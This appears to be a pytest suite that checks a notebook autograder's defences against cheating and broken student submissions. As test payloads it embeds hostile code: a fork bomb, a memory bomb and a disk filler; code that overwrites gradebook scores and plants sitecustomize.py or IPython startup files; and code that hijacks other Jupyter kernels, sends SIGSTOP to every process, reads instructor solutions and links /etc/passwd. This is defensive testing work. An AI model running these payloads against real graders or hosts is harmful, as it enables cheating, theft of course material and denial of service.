"""The adversarial catalog: cheats gain nothing, harm no one, and are named in the account;
broken submissions are contained, and feedback keeps hidden tests hidden.

Every case is built from an assignment's own reference and first mutant.  The cases whose outcome
an assignment's hidden tests decide (an object equal to everything, a function that refuses or
returns zeros, hidden inputs smuggled out through type names or prints) run on every assignment,
so they grow with every new one.  The cases whose outcome the grader's machinery decides, whatever
the tests (patches and fakes in the student's kernel, which the tests running in the grader's
process never see; hidden errors; skipped cells; the sandbox, its limits, the next student, a
broken notebook), run on the first assignment (CONTAINMENT_ON).  A cheat that tries to win is built on the mutant, so a
cheat that gains nothing gets exactly the mutant's grade; a cheat that tries to harm others
runs before a victim (a correct submission graded right after it, in the same nbgrader
process, on the kernel started while the cheat ran), which must get full marks.  After
grading, the host is searched for whatever a cheat tried to leave behind."""
import functools
import re
import tempfile
import time
from pathlib import Path

import nbformat
import pytest
from nbgrader.utils import is_grade, is_solution

from coursekit import SOURCE, assignments, notebook_name
from coursekit.cli.classgrade import grade_assignment
from coursekit.grader.execute import SKIP_TAG, SKIPPED_NOTE
from support.scratch import Link, new_class
from coursekit.cli.nbgrader import run_nbgrader
from support.catalog import answer_name, catalog, is_answer_check, reference_submission, submission_for
from support.leaks import page_leaks

TIMEOUT = 10  # seconds per call or cell for this run (the course uses 60): keeps the infinite loop cheap
MEMORY = 2 ** 30  # bytes per kernel process for this run (the course uses 4 GiB): keeps the memory bomb cheap

PATCH_COMPARISONS = """
import math, numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
math.isclose = lambda *a, **k: True
for _name in dir(np.testing):
    if _name.startswith("assert_"):
        setattr(np.testing, _name, lambda *a, **k: None)
"""

REWRITE_CHECKER = """
import losscheck as _lc
def _ok(*args, **kwargs):
    return None
for _name in ("check_close", "check_raises", "check_unmodified", "require", "expect_float", "expect_array"):
    setattr(_lc, _name, _ok)
_lc.quietly = lambda fn, *a, **k: 0.0
_lc.CheckFailed = type("CheckFailed", (Exception,), {})
"""

ANYTHING = """
class _Anything(float):
    def __new__(cls, *args, **kwargs):
        return float.__new__(cls, 0.0)
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = lambda self, other: _Anything()
    __truediv__ = __rtruediv__ = __pow__ = lambda self, other: _Anything()
    __abs__ = __neg__ = lambda self: _Anything()
    __getitem__ = lambda self, key: _Anything()
    __bool__ = lambda self: True
"""

FAKE_NUMPY = '''"""A cheat: load the real NumPy, then make every comparison succeed."""
import importlib.util, sys
sys.modules.pop("numpy", None)
_here = sys.path.pop(0) if sys.path and sys.path[0] in ("", ".") else None
import numpy as _real
_real.allclose = lambda *a, **k: True
sys.modules["numpy"] = _real
'''

FAKE_LOSSCHECK = '''"""A cheat: a checker whose checks always pass."""
def _ok(*args, **kwargs):
    return args[1] if len(args) > 1 else None
quietly = lambda fn, *a, **k: fn(*a, **k)
check_close = check_raises = check_unmodified = require = _ok
expect_float = lambda name, value: float(value) if not hasattr(value, "shape") else 0.0
expect_array = lambda name, value, shape: value
snapshot = lambda *arrays: [a.copy() for a in arrays]
grad_check = lambda *a, **k: 0.0
rel_error = lambda *a, **k: 0.0
numerical_gradient = lambda f, x, h=1e-6: x
class CheckFailed(AssertionError):
    pass
'''

# Reads the instructor's reference from source/ wherever it can find it, and takes its functions.
READ_COURSE = """
import glob as _glob, json as _json, os as _os
_found = []
for _pattern in ["COURSE/source/*/*.ipynb", "COURSE/solutions/*/*.ipynb", "../../../source/*/*.ipynb",
                 "/*/source/ASSIGNMENT/*.ipynb", "/*/*/source/ASSIGNMENT/*.ipynb", "/*/*/*/source/ASSIGNMENT/*.ipynb"]:
    try:
        _found += _glob.glob(_pattern)[:5]
    except OSError:
        pass
for _path in _found:
    try:
        for _cell in _json.load(open(_path))["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(_cell["source"]), globals())
    except Exception:
        pass
"""

# Writes outside its folder: the course root, the gradebook, the instructor's home, the host's /tmp.
WRITE_OUTSIDE = """
import os as _os, sqlite3 as _sqlite3
for _folder in ["COURSE", "COURSE/source/ASSIGNMENT", "/root", _os.path.expanduser("~"), "/tmp", "/var/tmp"]:
    try:
        open(_os.path.join(_folder, "lfs-pwned-ASSIGNMENT"), "w").write("pwned")
    except OSError:
        pass
try:
    _db = _sqlite3.connect("COURSE/gradebook.db")
    _db.execute("UPDATE grade SET manual_score = 8000, auto_score = 8000")
    _db.commit()
except Exception:
    pass
"""

# Connects to a server the test runs on the host's loopback.
NETWORK = """
import socket as _socket
for _host in ("127.0.0.1", "localhost", "::1"):
    try:
        _socket.create_connection((_host, PORT), timeout=2).sendall(b"pwned")
    except OSError:
        pass
"""

# Leaves processes behind that would rewrite the gradebook once grading is over.
OUTLIVE = """
import os as _os, subprocess as _subprocess, sys as _sys
_code = "import time, sqlite3\\nwhile True:\\n    time.sleep(0.5)\\n    try:\\n        db = sqlite3.connect('COURSE/gradebook.db'); db.execute('UPDATE grade SET auto_score = 8000'); db.commit()\\n    except Exception: pass"
try:
    _subprocess.Popen([_sys.executable, "-c", _code, "lfs-orphan-ASSIGNMENT"], start_new_session=True,
                      stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
    if _os.fork() == 0:
        _os.setsid()
        _os.execv(_sys.executable, [_sys.executable, "-c", _code, "lfs-orphan-ASSIGNMENT"])
except Exception:
    pass
"""

# Plants modules and start-up files wherever a later kernel might look.
PLANT = """
import glob as _glob, os as _os, sys as _sys
_evil = "raise SystemExit('planted')\\n"
_targets = {_os.getcwd(), "/tmp", _os.path.expanduser("~"), *_glob.glob("/tmp/*/"), *_glob.glob("/tmp/*/*/"),
            *[p for p in _sys.path if p]}
for _folder in _targets:
    for _name in ("numpy.py", "losscheck.py", "ipykernel_launcher.py", "sitecustomize.py", "coursekit_kernel.py"):
        try:
            open(_os.path.join(_folder, _name), "w").write(_evil)
        except OSError:
            pass
try:
    _os.makedirs(_os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True)
    open(_os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"), "w").write(_evil)
except OSError:
    pass
"""

# Finds other kernels (connection files, processes) and tries to take them over or stop them.
TAKEOVER = """
import glob as _glob, os as _os, signal as _signal
import sys as _sys
_own = open(_sys.argv[_sys.argv.index("-f") + 1]).read() if "-f" in _sys.argv else None
_victims = []
for _pattern in ["/tmp/**/*.json", "/run/**/*.json", "/proc/*/root/run/*.json", "/root/.local/share/jupyter/runtime/*.json"]:
    try:
        _victims += _glob.glob(_pattern, recursive=True)[:50]
    except OSError:
        pass
for _path in _victims:
    try:
        if open(_path).read() == _own:
            continue
        from jupyter_client import BlockingKernelClient as _Client
        _kc = _Client(connection_file=_path)
        _kc.load_connection_file()
        _kc.start_channels()
        _kc.execute("for _n in list(globals()):\\n    if callable(globals()[_n]) and not _n.startswith('_'):\\n        globals()[_n] = lambda *a, **k: 0.0")
    except Exception:
        pass
_mine = {int(t) for t in _os.listdir("/proc/self/task")}
for _pid in range(1, 5000):
    if _pid not in _mine:
        try:
            _os.kill(_pid, _signal.SIGSTOP)
        except OSError:
            pass
"""

# Hides errors from nbgrader (issue: a stub scored full marks).
HIDE_ERRORS = """
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
def _clear(result):
    result.error_in_exec = None
    result.error_before_exec = None
_ip.events.register("post_run_cell", _clear)
"""

# Makes "ok" the first execute_result of every cell that calls a function, then raises.
DISPLAYHOOK = "get_ipython().displayhook('ok'); raise NotImplementedError()"

# Raises an exception named like the checker's, carrying the kernel's history.
FAKE_CHECKFAILED = """
class CheckFailed(AssertionError):
    pass
"""


def cells(assignment):
    """The grade ids of an assignment's graded test cells of functions (the answer checks left out)."""
    nb = reference_submission(assignment)
    return [c.metadata["nbgrader"]["grade_id"] for c in nb.cells if is_grade(c) and not is_solution(c)
            and not is_answer_check(c.metadata["nbgrader"]["grade_id"])]


def _solution_cells(nb):
    """The solution code cells (derivations, written in markdown, left out)."""
    return [c for c in nb.cells if is_solution(c) and c.cell_type == "code"]


def _defined(cell):
    return re.findall(r"^def (\w+)\(", cell.source, re.M)


def _append(nb, code, cell_index=0):
    """Append ``code`` to a solution cell that defines functions (answer cells may be left as stubs that raise)."""
    [c for c in _solution_cells(nb) if _defined(c)][cell_index].source += "\n\n" + code.strip() + "\n"
    return nb


def _redefine(nb, function, body):
    """Append a redefinition of ``function`` with ``body`` to the cell that defines it."""
    for cell in _solution_cells(nb):
        if function in _defined(cell):
            cell.source += f"\n\ndef {function}(*args, **kwargs):\n    {body}\n"
            return nb
    raise KeyError(function)


def _tag_graded_cells_skip(nb):
    """A cheat: ask the autograder to skip every test and solution cell."""
    for cell in nb.cells:
        if is_grade(cell) or is_solution(cell):
            cell.metadata.setdefault("tags", []).append(SKIP_TAG)
    return nb


# Runs first in the submission: what the sandbox must look like from inside.
PROBE_SANDBOX = """
import os as _os, socket as _socket
assert _os.getuid() != 0, "the grading kernel runs as root"
assert _os.getcwd() == "/home/student/work", "the kernel runs in " + _os.getcwd()
assert not _os.path.exists("COURSE"), "the kernel sees the course directory"
assert sorted(_os.listdir(".")) == sorted(FILES), "the working folder holds " + repr(_os.listdir("."))
try:
    _socket.create_connection(("127.0.0.1", PORT), timeout=2)
except OSError:
    pass
else:
    raise AssertionError("the kernel reached the host's loopback")
"""

MEMORY_BOMB = """
import numpy as _np
_blocks = []
try:
    while True:
        _blocks.append(_np.ones(2 ** 26))
except MemoryError:
    pass
del _blocks
"""

FILL_DISK = """
import os as _os
for _folder in (_os.getcwd(), "/tmp", _os.path.expanduser("~"), "/dev/shm", "/run/coursekit", "/var/tmp"):
    try:
        for _i in range(1000):
            with open(_os.path.join(_folder, f"lfs-fill-{_i}"), "wb") as _f:
                _f.write(b"0" * 2 ** 24)
    except OSError:
        pass
"""

FORK_BOMB = "import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass"

KILL_GRADER = ("import os, signal\n    for pid, sig in [(os.getppid(), signal.SIGKILL), (1, signal.SIGKILL), (0, signal.SIGSTOP)]:\n"
               "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n"
               "    raise NotImplementedError()")

RECORD_INPUTS = """
_seen = []
def _recording(function):
    def wrapper(*args, **kwargs):
        _seen.append(repr(args)[:200])
        return function(*args, **kwargs)
    return wrapper
"""


# Raises an exception, or returns an object, whose class is named after the inputs it saw.
LEAK_NAMES = ("import numpy as np; name = 'LEA' + 'KED_' + '_'.join(str(round(float(np.ravel(a)[0]), 3)).replace('.', 'p')"
              ".replace('-', 'm') for a in args if np.size(a))\n"
              "    if len(args) % 2: raise type(name, (Exception,), {})()\n"
              "    return type(name, (), {})()")


# Refuses every call with a ValueError whose message names whatever a contract cell could look for:
# every argument's shape and size, and the words of every parameter check.
REFUSE_ALL = ("import numpy as np\n"
              "    raise ValueError(' '.join(f'{np.shape(a)} {np.size(a)}' for a in args) + "
              "' labels label margin tau shape shapes y_true y_pred 2*y - 1')")


# Implements nothing: a forward returns 0.0, every other function zeros of y_pred's shape (or its input's).
ZEROS = ("import sys, numpy as np\n"
         "    like = args[1] if len(args) > 1 else args[0]\n"
         "    return 0.0 if 'forward' in sys._getframe().f_code.co_name else np.zeros(np.shape(like))")


def _everything(nb, body, preamble="", answer="raise NotImplementedError()"):
    """Every function the solution cells define is redefined with ``body``; every answer (derivation
    checks, questions) is ``answer``: an expression it is set to, or the stub left as released."""
    for cell in _solution_cells(nb):
        name = answer_name(cell.source)
        if name is not None:
            cell.source = answer if answer.startswith("raise") else f"{name} = {answer}"
    if preamble:
        _append(nb, preamble)
    for cell in _solution_cells(nb):
        for name in _defined(cell):
            cell.source += f"\n\ndef {name}(*args, **kwargs):\n    {body}\n"
    return nb


def _print_hidden_inputs(nb):
    """A correct submission that records its inputs and prints them in a cell after the tests, and
    rewrites with them the output of a cell from before the tests (a display update)."""
    _append(nb, RECORD_INPUTS)
    for cell in _solution_cells(nb):
        for name in _defined(cell):
            cell.source += f"\n{name} = _recording({name})\n"
    nb.cells.insert(1, nbformat.v4.new_code_cell("display('nothing yet', display_id='early')"))
    nb.cells.append(nbformat.v4.new_code_cell("print('LEA' + 'K:', _seen, In)\n"
                                              "from IPython.display import update_display\n"
                                              "update_display('LEA' + 'K2:' + repr(_seen), display_id='early')"))
    return nb


def _fill(code, course, assignment, port, files=()):
    return (code.replace("COURSE", str(course)).replace("ASSIGNMENT", assignment)
            .replace("PORT", str(port)).replace("FILES", repr(sorted(files))))


# Expectations: ("full", [note]), ("zero", note, reason), ("fails", grade ids),
# ("some", reason), ("same_as", control student, reason)
def cases(assignment, course="COURSE", port=0):
    """student id -> (files, expectation) for one assignment."""
    name = f"{notebook_name(assignment)}.ipynb"
    mutant = next(e for e in catalog(assignment) if e.kind == "mutants")
    ref = functools.partial(reference_submission, assignment)
    wrong = functools.partial(submission_for, assignment, mutant)
    fill = functools.partial(_fill, course=course, assignment=assignment, port=port)
    last = [n for c in _solution_cells(ref()) for n in _defined(c)][-1]
    gains_nothing = ("fails", mutant.fails)
    same_as_stub = functools.partial(lambda reason: ("same_as", "control-stub-last-function", reason))
    return {
        "correct": ({name: ref()}, ("full",)),
        "mutant": ({name: wrong()}, gains_nothing),
        # cheats that try to win: each gets exactly the mutant's grade
        "cheat-patch-comparisons": ({name: _append(wrong(), PATCH_COMPARISONS)}, gains_nothing),
        "cheat-rewrite-checker": ({name: _append(wrong(), REWRITE_CHECKER)}, gains_nothing),
        "cheat-shadow-numpy-module": ({name: wrong(), "numpy.py": FAKE_NUMPY}, gains_nothing),
        "cheat-replace-losscheck": ({name: wrong(), "losscheck.py": FAKE_LOSSCHECK}, gains_nothing),
        "cheat-skip-tests": ({name: _tag_graded_cells_skip(wrong())}, gains_nothing),
        "cheat-read-course": ({name: _append(wrong(), fill(READ_COURSE))}, gains_nothing),
        "cheat-write-outside": ({name: _append(wrong(), fill(WRITE_OUTSIDE))}, gains_nothing),
        "cheat-network": ({name: _append(wrong(), fill(NETWORK))}, gains_nothing),
        "cheat-outlive-kernel": ({name: _append(wrong(), fill(OUTLIVE))}, gains_nothing),
        "cheat-memory-bomb": ({name: _append(wrong(), MEMORY_BOMB)}, gains_nothing),
        "cheat-fill-disk": ({name: _append(wrong(), FILL_DISK)}, gains_nothing),
        "cheat-link-to-source": ({name: wrong(), "ref.txt": Link(f"{course}/source/{assignment}/{name}"),
                                  "passwd.txt": Link("/etc/passwd")}, gains_nothing),
        # cheats that try to pass with no implementation
        "cheat-always-equal-object": ({name: _everything(ref(), "return _Anything()", ANYTHING, answer="_Anything()")}, ("zero", None, "")),
        "cheat-hide-errors": ({name: _everything(ref(), "raise NotImplementedError()", HIDE_ERRORS)},
                              ("zero", None, "NotImplementedError")),
        "cheat-displayhook-ok": ({name: _everything(ref(), DISPLAYHOOK)}, ("zero", None, "NotImplementedError")),
        "cheat-fake-checkfailed": ({name: _everything(ref(), "raise CheckFailed(repr(In))", FAKE_CHECKFAILED)},
                                   ("zero", None, "CheckFailed")),
        # cheats that try to reach the next student (graded right after, on the kernel started meanwhile)
        "cheat-plant-a": ({name: _append(wrong(), PLANT)}, gains_nothing),
        "cheat-plant-b-victim": ({name: ref()}, ("full",)),
        "cheat-takeover-a": ({name: _append(wrong(), TAKEOVER)}, gains_nothing),
        "cheat-takeover-b-victim": ({name: ref()}, ("full",)),
        "cheat-kill-grader-a": ({name: _redefine(ref(), last, KILL_GRADER)}, same_as_stub("")),
        "cheat-kill-grader-b-victim": ({name: ref()}, ("full",)),
        # hidden inputs smuggled out through the names of exceptions and returned types
        "cheat-leak-type-names": ({name: _everything(ref(), LEAK_NAMES)}, ("zero", None, "")),
        # refuses everything with the words contract cells look for: a contract is kept only by a function that works
        "cheat-refuse-everything": ({name: _everything(ref(), REFUSE_ALL)}, ("zero", None, None)),
        # returns zeros: an edge-case cell pays only a function that responds to its inputs
        "cheat-zeros": ({name: _everything(ref(), ZEROS)}, ("zero", None, None)),
        # a correct submission that prints the hidden inputs it saw, after the tests
        "cheat-print-hidden-inputs": ({name: _print_hidden_inputs(ref())}, ("full",)),
        "probe-sandbox": ({name: _append(ref(), fill(PROBE_SANDBOX, files=[name, "losscheck.py"]))}, ("full",)),
        # broken submissions: contained, and no worse than a stub of the same function
        "control-stub-last-function": ({name: _redefine(ref(), last, "raise NotImplementedError()")},
                                       ("some", "NotImplementedError")),
        "broken-infinite-loop": ({name: _redefine(ref(), last, "while True: pass")}, same_as_stub("time limit")),
        "broken-fork-bomb": ({name: _redefine(ref(), last, FORK_BOMB)}, same_as_stub("time limit")),
        "broken-sys-exit": ({name: _redefine(ref(), last, "import sys; sys.exit(1)")}, same_as_stub("SystemExit")),
        "broken-os-exit": ({name: _redefine(ref(), last, "import os; os._exit(1)")}, same_as_stub("died")),
        "broken-segfault": ({name: _redefine(ref(), last, "import ctypes; ctypes.string_at(0)")}, same_as_stub("died")),
        "broken-print-flood": ({name: _append(ref(), "for _i in range(200_000):\n    print(_i)")}, ("full",)),
        "broken-output-flood": ({name: _append(ref(), "for _i in range(24):\n    print('x' * 2 ** 21)")}, ("full",)),
        "broken-html-bomb": ({name: _append(ref(), "from IPython.display import HTML, display\n"
                                                 "for _i in range(3):\n    display(HTML('<b>' * 40000))")}, ("full",)),
        "broken-malformed-json": ({name: '{"cells": [ {"cell_type": "code", "source": '},
                                  ("zero", "not a valid notebook", None)),
        "broken-missing-notebook": ({"my_answers.txt": "I could not finish."}, ("zero", "submitted", None)),
        "broken-renamed-notebook": ({name.replace(".ipynb", " (1).ipynb"): ref()}, ("full", "renamed")),
    }


class _Listener:
    """A TCP server on the host's loopback that counts the connections it gets."""

    def __init__(self):
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.connections, self._stop = self.sock.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self._stop = True
        self.thread.join()
        self.sock.close()


def _orphans(assignment):
    """Processes on the host whose command line carries a cheat's marker."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if f"lfs-orphan-{assignment}".encode() in cmdline.read_bytes():
                found.append(cmdline.parent.name)
        except OSError:
            pass
    return found


@functools.lru_cache(maxsize=None)
def _graded(assignment):
    folder = Path(tempfile.mkdtemp(prefix=f"lfs-integrity-{assignment}-"))
    listener = _Listener()
    try:
        submissions = {s: files for s, (files, _) in cases(assignment, folder, listener.port).items()
                       if s in students(assignment)}
        course = new_class(folder, assignment, submissions)
        accounts = grade_assignment(course, assignment, [f"--Execute.timeout={TIMEOUT}",
                                                         f"--SandboxedKernelManager.memory_limit={MEMORY}"], force=True)
        time.sleep(1.5)  # an orphan that survived grading would have written by now
        harm = {"connections": listener.connections, "orphans": _orphans(assignment),
                "files": sorted(str(p) for folder_ in (course, course / "source" / assignment, Path("/tmp"),
                                                       Path("/var/tmp"), Path.home())
                                for p in folder_.glob("lfs-*") if p.is_file()),
                "planted": sorted(str(p) for p in Path("/tmp").glob("*/ipykernel_launcher.py")),
                "oversized": sorted(str(p) for p in course.glob(f"autograded/*/{assignment}/*.ipynb")
                                    if p.stat().st_size > 8 * 2 ** 20)}
        run_nbgrader(course, "generate_feedback", assignment, "--force", check=False)
    finally:
        listener.close()
    return course, accounts, harm


CONTAINMENT_ON = assignments()[0]
# The cases whose outcome an assignment's hidden tests decide (with the correct submission and the mutant
# they are measured against); every other case is decided by the grader's machinery or the sandbox.
AIMED_AT_TESTS = {
    "correct", "mutant", "cheat-always-equal-object", "cheat-refuse-everything", "cheat-zeros",
    "cheat-leak-type-names", "cheat-print-hidden-inputs",
}


@functools.lru_cache(maxsize=None)
def students(assignment):
    """The cases graded for an assignment: all of them on CONTAINMENT_ON, those its tests decide elsewhere
    (remembered: cases() builds every case's notebooks, and only their names are needed here)."""
    every = list(cases(assignment))
    return tuple(every if assignment == CONTAINMENT_ON else [s for s in every if s in AIMED_AT_TESTS])


CASES = [pytest.param(a, s, marks=pytest.mark.xdist_group(f"integrity-{a}"), id=f"{a}-{s}")
         for a in assignments() for s in students(a)]


def test_every_case_aimed_at_tests_exists_and_the_host_cases_run_somewhere():
    """Is every name of AIMED_AT_TESTS a case, and are some cases left to CONTAINMENT_ON alone?"""
    every = set(cases(CONTAINMENT_ON))
    assert AIMED_AT_TESTS <= every, sorted(AIMED_AT_TESTS - every)
    assert {"broken-infinite-loop", "cheat-write-outside", "cheat-takeover-a", "cheat-skip-tests",
            "cheat-patch-comparisons"} <= every - AIMED_AT_TESTS


@pytest.mark.parametrize("assignment,student", CASES)
def test_adversarial_case_gets_exactly_its_expected_grade(assignment, student):
    """Does this cheat or broken submission get exactly the grade it should, next to a correct one?"""
    _, accounts, harm = _graded(assignment)
    assert set(accounts) == set(students(assignment))
    assert harm == {"connections": 0, "orphans": [], "files": [], "planted": [], "oversized": []}, \
        f"a submission reached the host: {harm}"
    kind, *args = cases(assignment)[student][1]
    acc = accounts[student]
    story = f"{student}: {acc.score:g}/{acc.max_score:g} [{acc.status}] notes={acc.notes} failed={acc.failed_cells}"
    assert acc.max_score > 0, story
    if kind == "full":
        assert acc.score + acc.pending == acc.max_score and not acc.failed_cells, story
        if args:
            assert any(args[0] in n for n in acc.notes), story
    elif kind == "zero":
        note, reason = args
        assert acc.score == 0, story
        if note:
            assert any(note in n for n in acc.notes), story
        if reason is not None:  # every graded cell of a function failed, each for this reason
            functions = {g: why for g, why in acc.failed_cells.items() if not is_answer_check(g)}
            assert set(functions) == set(cells(assignment)), story
            assert all(reason in why for why in functions.values()), story
        assert acc.score <= accounts["mutant"].score
    elif kind == "fails":
        assert frozenset(acc.failed_cells) == args[0], story
        assert acc.score == accounts["mutant"].score
    elif kind == "some":
        assert 0 < acc.score < acc.max_score - acc.pending, story
        assert all(args[0] in why for why in acc.failed_cells.values()), story
    elif kind == "same_as":
        control = accounts[args[0]]
        assert set(acc.failed_cells) == set(control.failed_cells) and acc.score == control.score, story
        assert all(args[1] in why for why in acc.failed_cells.values()), story
    correct = accounts["correct"]
    assert correct.score + correct.pending == correct.max_score, "the correct submission lost points"


@pytest.mark.parametrize("assignment", [pytest.param(a, marks=pytest.mark.xdist_group(f"integrity-{a}"))
                                        for a in assignments()])
def test_autograder_skips_exactly_the_instructors_tagged_cells(assignment):
    """Are the cells source/ tags skip-when-grading, and only those, left unrun with a note?"""
    course, _, _ = _graded(assignment)
    name = f"{notebook_name(assignment)}.ipynb"
    source = nbformat.read(SOURCE / assignment / name, as_version=4)
    tagged = {c.metadata["nbgrader"]["grade_id"] for c in source.cells if SKIP_TAG in c.metadata.get("tags", [])}
    assert tagged, f"source/{assignment} tags no figure or demonstration cell {SKIP_TAG}"
    for student in {"correct", "cheat-skip-tests"} & set(students(assignment)):
        graded = nbformat.read(Path(course) / "autograded" / student / assignment / name, as_version=4)
        skipped = {c.metadata["nbgrader"]["grade_id"] for c in graded.cells
                   if any(o.get("text") == SKIPPED_NOTE for o in c.get("outputs", []))}
        assert skipped == tagged, f"{student}: skipped {sorted(skipped)}, tagged in source/ {sorted(tagged)}"


def _own_cells(course, student, assignment):
    """The cells of the notebooks a student handed in (not of links, nor of files that are not notebooks)."""
    cells = []
    for path in Path(course).glob(f"submitted/{student}/{assignment}/*.ipynb"):
        try:
            cells += [] if path.is_symlink() else nbformat.read(path, as_version=4).cells
        except Exception:  # noqa: BLE001 - a broken notebook is part of the catalog
            pass
    return nbformat.v4.new_notebook(cells=cells)


@pytest.mark.parametrize("assignment", [pytest.param(a, marks=pytest.mark.xdist_group(f"integrity-{a}"))
                                        for a in assignments()])
def test_feedback_shows_results_but_no_hidden_tests(assignment):
    """Does every student's feedback show pass/fail and points, and no hidden-test line or detail?"""
    import html

    course, accounts, _ = _graded(assignment)
    pages = {p.parts[-3]: html.unescape(p.read_text())
             for p in Path(course).glob(f"feedback/*/{assignment}/*.html")}
    assert {"correct", "mutant", "cheat-print-hidden-inputs", "cheat-leak-type-names"} <= set(pages)
    for student, page in pages.items():
        leaked = page_leaks(page, assignment, _own_cells(course, student, assignment))  # it can fail: see test_exchange
        assert not leaked, f"feedback for {student} shows {leaked}"
        assert "details (hidden" not in page, f"feedback for {student} leaks a check's details"
    assert "✔ passed" in pages["correct"] and "✘ failed" not in pages["correct"]
    assert "✘ failed" in pages["mutant"]
    if assignment == CONTAINMENT_ON:
        assert "time limit" in pages["broken-infinite-loop"]
    assert "LEAK:" not in pages["cheat-print-hidden-inputs"], "feedback shows output printed after the hidden tests"
    assert "LEAK2:" not in pages["cheat-print-hidden-inputs"], "feedback shows an earlier output updated after the tests"
    leaky = pages["cheat-leak-type-names"]  # cells before the tests saw only visible inputs, and keep their output
    assert "LEAKED_" not in leaky[leaky.index("✘ failed"):], "feedback shows a class name made of hidden inputs"
    copied = [p for p in Path(course).glob(f"feedback/*/{assignment}/*") if not p.name.endswith(".html")]
    leaked = [str(p) for p in copied if b"BEGIN HIDDEN TESTS" in p.read_bytes() or b"root:x:0:0" in p.read_bytes()
              or p.name == "coursekit-grading.json"]
    assert not leaked, f"feedback hands out files of the course or the host: {leaked}"


@pytest.mark.parametrize("assignment", [pytest.param(a, marks=pytest.mark.xdist_group(f"integrity-{a}"))
                                        for a in assignments()])
def test_every_notebook_ran_sandboxed_and_most_on_a_kernel_started_ahead(assignment):
    """Did the execute step sandbox every kernel and start each next kernel ahead?  (Fails if an
    nbclient or nbgrader upgrade stops honouring the kernel manager or the pre-started kernel.)"""
    import json

    course, _, _ = _graded(assignment)
    records = [json.loads(p.read_text()) for p in Path(course).glob(f"autograded/*/{assignment}/coursekit-grading.json")]
    ungraded = {"broken-malformed-json", "broken-missing-notebook"} & set(students(assignment))
    assert len(records) >= len(students(assignment)) - len(ungraded)
    assert all(r["sandbox"].startswith("bubblewrap") for r in records), {r["sandbox"] for r in records}
    assert sum(r["warm_start"] for r in records) >= len(records) - 1


def test_time_budget_bounds_a_notebook_that_hangs_everywhere():
    """With every function looping forever, does the notebook stop at its budget, the cells left failing
    at once, and does the account say so?"""
    assignment = "03_mean_squared_error"
    nb = _everything(reference_submission(assignment), "while True: pass")
    course = new_class(tempfile.mkdtemp(prefix="lfs-budget-"), assignment,
                       {"hangs": {f"{notebook_name(assignment)}.ipynb": nb}})
    start = time.monotonic()
    accounts = grade_assignment(course, assignment, ["--Execute.timeout=4", "--SandboxedExecute.notebook_budget=10"])
    elapsed = time.monotonic() - start
    account = accounts["hangs"]
    assert account.score == 0 and set(cells(assignment)) <= set(account.failed_cells), account
    assert any("BudgetSpent" in why for why in account.failed_cells.values()), account.failed_cells
    assert any("time budget was spent" in n for n in account.notes), account.notes
    assert elapsed < 45, f"grading took {elapsed:.0f} s with a 10 s budget"
